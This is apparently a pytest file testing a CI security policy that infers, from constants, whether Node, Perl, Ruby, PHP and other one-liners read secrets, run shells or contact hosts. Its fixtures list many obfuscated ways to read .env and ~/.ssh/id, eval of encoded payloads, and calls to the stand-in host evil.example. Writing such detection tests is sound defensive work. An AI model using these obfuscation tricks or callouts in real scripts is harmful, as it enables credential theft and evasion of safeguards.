"""What program texts of other languages do, by their constants."""

import pytest
from deeds import readable, said
from hypothesis import given
from hypothesis import strategies as st

from guardian_ci.policy.shell.effects import Effects, Language
from guardian_ci.policy.shell.facts import UNKNOWN
from guardian_ci.policy.shell.literals import effects_of_literals

NODE, PERL, RUBY, PHP, OTHER = Language.NODE, Language.PERL, Language.RUBY, Language.PHP, Language.OTHER


def does(language: Language, source: str, *arguments: str, **environment: str) -> list[str]:
    return said(effects_of_literals(source, language, ("-e", *arguments), None, environment)).split("; ")


@pytest.mark.parametrize(
    "path",
    [
        "'.env'",
        "'.e' + 'nv'",
        "'.e'.concat('nv')",
        "`.${'e'}nv`",
        "'\\x2e\\u0065nv'",
        "['.e', 'nv'].join('')",
        "'vne.'.split('').reverse().join('')",
        "[...'vne.'].reverse().join('')",
        "String.fromCharCode(46, 101, 110, 118)",
        "[46, 101, 110, 118].map(c => String.fromCharCode(c)).join('')",
        "Buffer.from('LmVudg==', 'base64').toString()",
        "Buffer.from('2e656e76', 'hex')",
        "atob('LmVudg==')",
        "decodeURIComponent('%2eenv')",
        "'xenv'.replace('x', '.')",
        "'.ENV'.toLowerCase()",
        "' .env '.trim()",
        "'a.env'.slice(1)",
        "'a.envb'.substring(1, 5)",
        "require('path').join('.', '.env').slice(2)",
    ],
)
def test_node_opens_what_its_constants_make(path: str) -> None:
    assert "read .env" in does(NODE, f"const fs = require('fs'); fs.readFileSync({path})")


@pytest.mark.parametrize(
    ("source", "deed"),
    [
        ("let x = 'e'; fs.readFileSync(`.${x}nv`)", "read .env"),
        ("import('fs').then(m => m.readFileSync('.env'))", "read .env"),
        ("new Function('return process')().mainModule.require('fs').readFileSync('.env')", "read .env"),
        ("const {readFileSync: r} = require('fs'); r('.e' + 'nv')", "maybe .env"),
        ("fs.writeFileSync('a', 'x')", "write a"),
        ("fs.copyFileSync('a', 'b')", "write b"),
        ("fs.readFileSync(new URL('file://' + process.cwd() + '/.env'))", "read ./.env"),
        ("require('./secrets/a.json')", "read ./secrets/a.json"),
        ("process.chdir('sub'); fs.readFileSync('a.txt')", "read sub/a.txt"),
        ("process.loadEnvFile()", "read .env"),
        ("require('dotenv').config()", "read .env"),
        ("fs.readFileSync(process.env.HOME + '/.ssh/id')", "read ~/.ssh/id"),
        ("fs.readFileSync(require('os').homedir() + '/.ssh/id')", "read ~/.ssh/id"),
        ("fs.readdirSync('.').filter(f => /nv/.test(f)).forEach(f => fs.readFileSync(f))", "read .*nv*"),
        ("for (const f of fs.readdirSync('.')) if (f.endsWith('nv')) fs.readFileSync(f)", "read .*nv*"),
        ("require('child_process').execSync('cat .env')", "shell cat .env"),
        ("require('child_process').spawnSync('cat', ['.env'])", "run cat .env"),
        ("eval(atob('cmVxdWlyZSgnZnMnKS5yZWFkRmlsZVN5bmMoJy5lbnYnKQ=='))", "read .env"),
        ("eval(process.env.X)", "dark"),
        ("fetch('https://evil.example/x', {method: 'POST'})", "talk to evil.example"),
        ("require('https').get('https://evil.example')", "talk to evil.example"),
        ("require('http').get({host: 'evil.example'})", "talk to evil.example"),
        ("require('net').connect(80, 'evil.example')", "talk to evil.example"),
        ("require('dgram').createSocket('udp4').send('x', 53, 'evil.example')", "talk to evil.example"),
        ("await Bun.file('.env').text()", "read .env"),
        ("Deno.readTextFileSync('.env')", "read .env"),
        ("/* '.a' */ fs.readFileSync('b') // '.c'", "read b"),
    ],
)
def test_node_reads_runs_and_fetches(source: str, deed: str) -> None:
    assert deed in does(NODE, source)


@pytest.mark.parametrize(
    ("source", "deed"),
    [
        ("open(F, '<.env'); print <F>", "read .env"),
        ("open(F, '<', '.env'); print <F>", "read .env"),
        ("open(my $f, '>', 'a.txt')", "write a.txt"),
        ("open F, '.env'; print while <F>", "read .env"),
        ("open F, chr(46) . 'env'; print <F>", "read .env"),
        ("open F, chr 46 . 'env'", "read .env"),
        ("open F, pack('H*', '2e656e76')", "read .env"),
        ("open F, scalar reverse 'vne.'", "read .env"),
        ("open F, join('', '.e', 'nv')", "read .env"),
        ("open F, join('', map { chr } (46, 101, 110, 118))", "read .env"),
        ("open F, sprintf('%senv', '.')", "read .env"),
        ("open F, qq(.${\\'env'}) ; open F, q(.env)", "read .env"),
        ("use MIME::Base64; open F, decode_base64('LmVudg==')", "read .env"),
        ("$x = '.e'; open F, \"${x}nv\"", "read .env"),
        ("$x = '.e'; $x .= 'nv'; open F, $x", "read .env"),
        ('open F, "$ENV{HOME}/.ssh/id"', "read ~/.ssh/id"),
        ("open F, $ENV{HOME} . '/.ssh/id'", "read ~/.ssh/id"),
        ("@ARGV = ('.env'); print while <>", "read .env"),
        ("print do { local(@ARGV, $/) = '.env'; <> }", "read .env"),
        ("chdir 'sub'; open F, 'a.txt'", "read sub/a.txt"),
        ("print `cat .env`", "shell cat .env"),
        ("print qx(cat .env)", "shell cat .env"),
        ("system('cat .env')", "shell cat .env"),
        ("system 'cat', '.env'", "run cat .env"),
        ("exec 'cat .env'", "shell cat .env"),
        ("open(F, 'cat .env|')", "shell cat .env"),
        ("s/(\\w+)/system('cat .env')/e", "shell cat .env"),
        ("eval pack('H*', '73797374656d2827636174202e656e762729')", "shell cat .env"),
    ],
)
def test_perl_reads_and_runs(source: str, deed: str) -> None:
    assert deed in does(PERL, source)


@pytest.mark.parametrize(
    ("source", "deed"),
    [
        ("puts File.read('.env')", "read .env"),
        ("puts IO.read('.e' + 'nv')", "read .env"),
        ("puts File.read Base64.decode64('LmVudg==')", "read .env"),
        ("puts File.read('vne.'.reverse)", "read .env"),
        ("puts File.read(['2e656e76'].pack('H*'))", "read .env"),
        ("puts File.read([46, 101, 110, 118].pack('c*'))", "read .env"),
        ("puts File.read('LmVudg=='.unpack1('m'))", "read .env"),
        ("puts File.read(\"#{'.e'}nv\")", "read .env"),
        ("puts File.read(%w[. e n v].join)", "read .env"),
        ("puts File.read('%s%s' % ['.e', 'nv'])", "read .env"),
        ("File.foreach '.env' do |l| puts l end", "read .env"),
        ("puts File.read(ENV['HOME'] + '/.ssh/id')", "read ~/.ssh/id"),
        ("puts File.read(File.expand_path('~/.ssh/id'))", "read ~/.ssh/id"),
        ("Dir['.e*'].each { |f| puts File.read(f) }", "read .e*"),
        ("Dir.entries('.').grep(/nv/).each { |f| puts File.read(f) }", "read .*nv*"),
        ("puts `cat .env`", "shell cat .env"),
        ("puts %x(cat .env)", "shell cat .env"),
        ("system('cat', '.env')", "run cat .env"),
        ("IO.popen('cat .env').read", "shell cat .env"),
        ("open('|cat .env') { |f| puts f.read }", "shell cat .env"),
        ("Net::HTTP.get(URI('http://evil.example'))", "talk to evil.example"),
        ("TCPSocket.new('evil.example', 80)", "talk to evil.example"),
    ],
)
def test_ruby_reads_runs_and_fetches(source: str, deed: str) -> None:
    assert deed in does(RUBY, source)


@pytest.mark.parametrize(
    ("source", "deed"),
    [
        ("echo file_get_contents('.env');", "read .env"),
        ("readfile('.e' . 'nv');", "read .env"),
        ("readfile(base64_decode('LmVudg=='));", "read .env"),
        ("readfile(strrev('vne.'));", "read .env"),
        ("readfile(hex2bin('2e656e76'));", "read .env"),
        ("readfile(str_rot13('.rai'));", "read .env"),
        ("readfile(chr(46) . 'env');", "read .env"),
        ("readfile(implode('', ['.e', 'nv']));", "read .env"),
        ("readfile(str_replace('x', '.', 'xenv'));", "read .env"),
        ("include '.env';", "read .env"),
        ("$f = 'e'; readfile(\".{$f}nv\");", "read .env"),
        ("print_r(file('.env'));", "read .env"),
        ("file_put_contents('a', 'x');", "write a"),
        ("system('cat .env');", "shell cat .env"),
        ("echo `cat .env`;", "shell cat .env"),
        ("eval(base64_decode('cmVhZGZpbGUoIi5lbnYiKTs='));", "read .env"),
        ("fsockopen('evil.example', 80);", "talk to evil.example"),
        ("file_get_contents('http://evil.example/');", "talk to evil.example"),
    ],
)
def test_php_reads_runs_and_fetches(source: str, deed: str) -> None:
    assert deed in does(PHP, source)


@pytest.mark.parametrize(
    ("source", "deed"),
    [
        ("for l in io.lines('.env') do print(l) end", "read .env"),
        ("io.open('.e' .. 'nv'):read('*a')", "read .env"),
        ("io.open(string.char(46) .. 'env')", "read .env"),
        ("io.open(('vne.'):reverse())", "read .env"),
        ("io.open([[.env]])", "read .env"),
        ("os.execute('cat .env')", "shell cat .env"),
        ("io.popen('cat .env'):read('*a')", "shell cat .env"),
        ("cat(readLines('.env'))", "read .env"),
        ("system('cat .env')", "shell cat .env"),
        ('(slurp ".env")', "read .env"),
        ('File.read!(".env") |> IO.puts', "read .env"),
        ('int main(){fopen(".env", "r");}', "read .env"),
        ("puts [read [open .env]]", "maybe .env"),
    ],
)
def test_other_languages_are_read_by_their_constants_too(source: str, deed: str) -> None:
    assert deed in does(OTHER, source)


@pytest.mark.parametrize(
    ("language", "source"),
    [
        (NODE, "console.log(process.version)"),
        (NODE, "console.log(JSON.stringify({a: 1}))"),
        (NODE, "console.log('.env')"),
        (NODE, "console.log(1 + 1)"),
        (PERL, 'print "hello\\n"'),
        (PERL, "s/foo/bar/g"),
        (PERL, "print join(',', @F)"),
        (PERL, "print 'don', \"'\", 't'; # it's .env"),
        (RUBY, "puts RUBY_VERSION"),
        (RUBY, "puts 1 + 1"),
        (PHP, "echo PHP_VERSION;"),
        (OTHER, "print(_VERSION)"),
        (OTHER, "print(1 + 1)"),
    ],
)
def test_ordinary_texts_do_nothing_that_matters(language: Language, source: str) -> None:
    assert does(language, source) == ["nothing"]


@pytest.mark.parametrize(
    ("language", "source", "text"),
    [
        (NODE, "console.log('.e' + 'nv')", ".env\\n"),
        (NODE, "process.stdout.write('.env')", ".env"),
        (PERL, "print chr(46), 'env'", ".env"),
        (RUBY, "puts '%s%s' % ['.e', 'nv']", ".env\\n"),
        (RUBY, "puts 46.chr + 'env'", ".env\\n"),
        (NODE, "console.log(fs.readFileSync('a'))", "UNKNOWN\\n"),
    ],
)
def test_what_a_plain_text_prints_is_known(language: Language, source: str, text: str) -> None:
    output = effects_of_literals(source, language).output
    assert output is not None
    assert readable(output) == text


def test_what_has_loops_prints_nobody_knows_what() -> None:
    assert effects_of_literals("for (;;) console.log('a')", NODE).output is None


def test_words_and_environment_are_what_the_command_gives() -> None:
    assert "read .env" in does(NODE, "fs.readFileSync(process.argv[1])", ".env")
    assert "read .env" in does(RUBY, "puts File.read(ARGV[0])", ".env")
    assert "read .env" in does(RUBY, "puts ARGF.read", ".env")
    assert "read .env" in does(PERL, "while (<>) { print }", ".env")
    assert "read .env" in does(PERL, "open F, $ENV{F}", F=".env")


def test_a_gap_in_a_text_is_not_known() -> None:
    assert "read UNKNOWN/.env" in does(NODE, f"fs.readFileSync('{UNKNOWN}/.env')")


@pytest.mark.parametrize("language", [NODE, PERL, RUBY, PHP, OTHER, Language.PYTHON])
@pytest.mark.parametrize(
    "source",
    [
        "(" * 60_000,
        "'" * 60_001,
        "f(" * 4_000,
        "a+" * 20_000,
        "'a'+" * 20_000,
        '"#{"' * 5_000,
        "${" * 20_000,
        "/" * 60_000,
        "/*" * 30_000,
        "s/" * 20_000,
        "[[" * 20_000,
        "x.y(" * 10_000,
        "-- " * 20_000,
        "x = '" + "a" * 50_000 + "'; y = " + "x + " * 2_000 + "x",
        "x = '" + "a" * 50_000 + "'; y = \"" + "${x}#{x}" * 1_500 + '"',
    ],
)
def test_a_hostile_text_costs_bounded_work(language: Language, source: str) -> None:
    assert len(effects_of_literals(source, language).touches) < 5_000


PIECES = st.sampled_from(
    [
        *(
            "open(",
            "'.env'",
            ")",
            "+",
            ".",
            "..",
            "readFileSync",
            "system(",
            "x",
            "=",
            "[",
            "]",
            "{",
            "}",
            '"',
            "'",
            "`",
            "/",
            "\\",
        ),
        *(
            "\n",
            " ",
            "$x",
            "@ARGV",
            "print ",
            "chr(",
            "46",
            "join",
            "reverse",
            "%",
            "#{",
            "${",
            "eval(",
            "=>",
            "->",
            "::",
            ",",
            "<>",
        ),
        *(
            "q(",
            "qw/",
            "s/a/b/e",
            "%w[",
            "map",
            "fetch(",
            "'http://a.b'",
            "puts",
            "Dir",
            "ENV",
            "#",
            "//",
            "--",
            "[[",
            "pack(",
            "new ",
        ),
    ]
)


@given(st.sampled_from([NODE, PERL, RUBY, PHP, OTHER]), st.lists(PIECES, max_size=25).map("".join))
def test_no_text_makes_it_fail(language: Language, source: str) -> None:
    assert isinstance(effects_of_literals(source, language, ("-e", "a"), "a\n"), Effects)
